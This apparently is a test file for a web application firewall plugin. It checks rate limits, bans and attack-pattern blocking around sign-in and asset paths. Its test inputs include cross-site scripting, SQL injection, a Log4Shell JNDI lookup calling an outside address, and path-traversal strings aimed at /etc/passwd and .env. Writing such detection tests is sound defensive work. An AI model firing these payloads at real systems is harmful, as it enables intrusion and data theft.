import { describe, expect, test } from "bun:test";
import { createEngine } from "../engine/engine.ts";
import { allPatterns } from "../engine/patterns/all-patterns.ts";
import { admin, member } from "../testing/fake-ctx.ts";
import { type StartedPlugin, startPlugin } from "../testing/started-plugin.ts";
import { isBrowsersWayIn, isFromOtherSite } from "./way-in.ts";

type Request = NonNullable<Parameters<StartedPlugin["pass"]>[0]>;
const cookie = { cookie: "sid=whatever" };
const wayIn: Request[] = [
  { path: "/login" },
  { path: "/assets/main.js" },
  { method: "POST", path: "/api/auth/login", route: "/api/auth/login" },
  { path: "/api/auth/user", route: "/api/auth/user" },
];

const started = async (config: Record<string, boolean | number> = {}, rate: object | null = null) => {
  const plugin = await startPlugin();
  await plugin.call("PUT", "/config", { body: { masterSwitchEnabled: true, ...config } });
  if (rate !== null) await plugin.call("POST", "/rates", { body: rate, user: null });
  return plugin;
};
/** How many of ten requests pass. */
const passing = async (plugin: StartedPlugin, request: Request): Promise<number> => {
  let passed = 0;
  for (let made = 0; made < 10; made += 1) if ((await plugin.pass(request)).stopped === null) passed += 1;
  return passed;
};

describe("F4: a rate rule for everything", () => {
  const everybody = { path: "/*", roles: ["visitor", "user", "admin"], windowMs: 3_600_000, max: 2 };

  test.each(wayIn)("never stops $path", async (request) => {
    const plugin = await started({}, everybody);
    await passing(plugin, { path: "/about" });
    expect(await passing(plugin, request)).toBe(10);
  });

  test.each(["/admin/firewall", "/admin/firewall/rates", "/api/firewall/config", "/api/plugins"])(
    "never stops signed-in admins at %s, and all others",
    async (path) => {
      const plugin = await started({}, everybody);
      await passing(plugin, { path: "/about" });
      expect(await passing(plugin, { path, headers: cookie, user: admin })).toBe(10);
      expect(await passing(plugin, { path, headers: cookie, user: member })).toBe(0);
      expect(await passing(plugin, { path })).toBe(0);
    },
  );

  test("is no reason to leave out paths that only look like those", async () => {
    const plugin = await started({}, everybody);
    await passing(plugin, { path: "/about" });
    for (const path of ["/loginx", "/api/auth/login/x", "/assets"])
      expect([path, await passing(plugin, { path })]).toEqual([path, 0]);
    expect(await passing(plugin, { path: "/api/firewalls", headers: cookie, user: admin })).toBe(0);
  });

  test("that names sign-in counts it", async () => {
    const plugin = await started({}, { ...everybody, path: "/api/auth/login" });
    expect(await passing(plugin, { method: "POST", path: "/api/auth/login" })).toBe(2);
  });
});

describe("F4: patterns on the way in", () => {
  const strictest = async () => {
    const plugin = await startPlugin({ makeEngine: createEngine, patterns: allPatterns });
    const body = { masterSwitchEnabled: true, paranoiaLevel: 4, threshold: 1 };
    await plugin.call("PUT", "/config", { body, user: null });
    return plugin;
  };
  const stopped = async (plugin: StartedPlugin, request: Request) =>
    (await plugin.pass(request)).stopped?.status ?? null;
  // Found from the second level on, in what a browser sends with each request.
  const odd = { cookie: "prefs=it's -- x; t={{a}}", "x-seen": "<b>" };

  test.each(wayIn)(
    "pass over what a browser sends by itself to $path, at whatever level",
    async (request) => {
      const plugin = await strictest();
      expect(await stopped(plugin, { ...request, headers: odd })).toBeNull();
      expect(await stopped(plugin, { path: "/about", headers: odd })).toBe(403);
    },
  );

  test.each(wayIn)(
    "look at the query of $path, and at its headers for what no honest one has",
    async (request) => {
      const plugin = await strictest();
      const query = "q=%3Cscript%3Ealert(1)%3C/script%3E";
      expect(await stopped(plugin, { ...request, query })).toBe(403);
      expect(await stopped(plugin, { ...request, query: "q=x' --" })).toBe(403);
      const headers = { "x-api-version": "\u0024{jndi:ldap://203.0.113.1/a}" };
      expect(await stopped(plugin, { ...request, headers })).toBe(403);
    },
  );

  test("look at all fields of a sign-in but the password", async () => {
    const plugin = await strictest();
    const send = (fields: object) =>
      stopped(plugin, {
        ...{ method: "POST", path: "/api/auth/login", route: "/api/auth/login" },
        headers: { ...odd, "content-type": "application/json" },
        body: JSON.stringify(fields),
      });
    expect(await send({ email: "ada@example.org", password: "' or 1=1 -- <script>" })).toBeNull();
    expect(await send({ email: "' or 1=1 --", password: "x" })).toBe(403);
  });

  test("look at all of what only resembles it", async () => {
    const plugin = await strictest();
    for (const request of [
      { method: "POST", path: "/login" },
      { path: "/api/auth/login" },
      { path: "/assets/..%2f..%2fetc/passwd" },
      { path: "/assets/../login" },
    ])
      expect([request.path, await stopped(plugin, { ...request, headers: odd })]).toEqual([
        request.path,
        403,
      ]);
  });
});

describe("bans", () => {
  const rules = { bansEnabled: true, banAfterBlocks: 3 };
  const crossSite = { "sec-fetch-site": "cross-site", "sec-fetch-dest": "image" };

  test("F4: keep nobody from signing in", async () => {
    const plugin = await started(rules);
    await plugin.call("POST", "/bans", { body: { address: "198.51.100.1", minutes: 5 } });
    for (const request of wayIn) expect((await plugin.pass(request)).stopped).toBeNull();
    expect((await plugin.pass({ path: "/" })).stopped?.status).toBe(403);
    expect((await plugin.pass({ path: "/login", query: "attack" })).stopped?.status).toBe(403);
  });

  test("do not follow what another site's page asks for, which is blocked all the same", async () => {
    const plugin = await started(rules);
    for (let made = 0; made < 6; made += 1)
      expect((await plugin.pass({ query: "q=attack", headers: crossSite })).stopped?.status).toBe(403);
    expect((await plugin.pass()).stopped).toBeNull();
    for (let made = 0; made < 6; made += 1)
      await plugin.pass({ query: "q=attack", headers: { "sec-fetch-site": "same-origin" } });
    expect((await plugin.pass()).stopped?.status).toBe(403);
  });

  test("by a rate rule do not follow it, either", async () => {
    const plugin = await started({}, { path: "/x", max: 1, action: "ban" });
    expect(await passing(plugin, { path: "/x", headers: crossSite })).toBe(1);
    expect((await plugin.pass({ path: "/y" })).stopped).toBeNull();
  });
});

test("an asset's address has nothing but names in it", () => {
  const isWay = (path: string) => isBrowsersWayIn({ method: "GET", path });
  expect(["/assets/main-B1_x.js", "/assets/fonts/inter.woff2"].map(isWay)).toEqual([true, true]);
  const odd = [
    "/assets/../login",
    "/assets/.env",
    "/assets/a'--.js",
    "/assets/",
    "/assets/a//b",
    "/assets/a\nb",
  ];
  expect(odd.filter(isWay)).toEqual([]);
});

test("only what a page of another site can send by itself is said to come from one", () => {
  const headers = new Headers({ "sec-fetch-site": "cross-site" });
  const from = (method: string) => isFromOtherSite({ method, headers });
  expect(["GET", "HEAD", "POST"].map(from)).toEqual([true, true, true]);
  expect(["PUT", "DELETE", "PATCH"].map(from)).toEqual([false, false, false]);
});
